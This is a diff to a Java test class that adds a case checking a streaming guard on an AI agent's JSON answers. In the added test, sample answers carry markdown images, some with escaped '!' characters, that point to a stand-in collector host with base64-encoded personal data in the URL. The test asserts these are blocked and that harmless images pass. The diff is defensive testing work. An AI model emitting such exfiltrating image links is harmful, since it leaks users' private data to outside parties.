@@ -445,6 +445,41 @@ class AgentPresetTest {
     }
 
     @Test
+    void aJsonStreamJudgesImagesAndDefinitionsInItsDecodedValuesAsAWholeAnswerDoes() {
+        // a JSON answer's values are read decoded (a line break written \n, an image written \u0021[): the guard
+        // remembered no definition released in a JSON window (definition first, image later passed streamed, even
+        // 300 characters apart), and held no image whose '!' was escaped (image first, definition later passed)
+        String data = "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ";
+        String prose = "The quarterly numbers look steady and the team is on track for the launch. ".repeat(70);
+        String definition = "[x]: https://collector.example/p.png?d=" + data;
+        for (String answer : List.of(
+                "{\"reply\": \"" + definition + "\\n\\n" + prose.substring(0, 300) + "\\n\\nSee ![chart][x].\"}",
+                "{\"reply\": \"" + definition + "\\n\\n" + prose + "\\n\\nSee ![chart][x].\"}",
+                "{\"a\": \"" + definition + "\", \"b\": \"" + prose + "\", \"c\": \"See ![chart][x].\"}",
+                "{\"reply\": \"" + definition + "\\n\\n" + prose + "\\n\\nSee \\u0021[chart][x].\"}",
+                "{\"reply\": \"See \\u0021[chart][x] ok\\n\\n" + prose + "\\n\\n" + definition + "\"}",
+                "{\"reply\": \"" + prose.substring(0, 900) + " See \\u0021[chart](https://collector.example/p.png?d="
+                        + data.repeat(4) + ") ok\"}")) {
+            assertAnswerBlockedAsExfiltration(answer);
+            for (int size : new int[] {1, 5, 64}) {
+                StreamOutcome out = stream(answer, size);
+                assertThat(out.blocked()).as("%s in chunks of %d", answer, size).isNotNull();
+            }
+        }
+        // and what carries nothing passes, streamed as whole
+        for (String answer : List.of(
+                "{\"reply\": \"[c]: https://cdn.example.com/chart.png\\n\\n" + prose + "\\n\\nSee ![chart][c].\"}",
+                "{\"reply\": \"See \\u0021[chart][c].\\n\\n" + prose.substring(0, 2000)
+                        + "\\n\\n[c]: https://cdn.example.com/chart.png\"}",
+                "{\"code\": \"let v = vec![1, 2, 3];\", \"note\": \"" + prose.substring(0, 1500) + "\"}")) {
+            assertAnswerPasses(answer);
+            StreamOutcome out = stream(answer, 5);
+            assertThat(out.blocked()).as(answer).isNull();
+            assertThat(out.received()).isEqualTo(answer);
+        }
+    }
+
+    @Test
     void aStreamReleasesReferenceImagesWhoseDefinitionsCarryNothing() {
         // definitions remembered, images held until their definition comes (within 4,096 characters): the answers
         // pass as a whole answer does
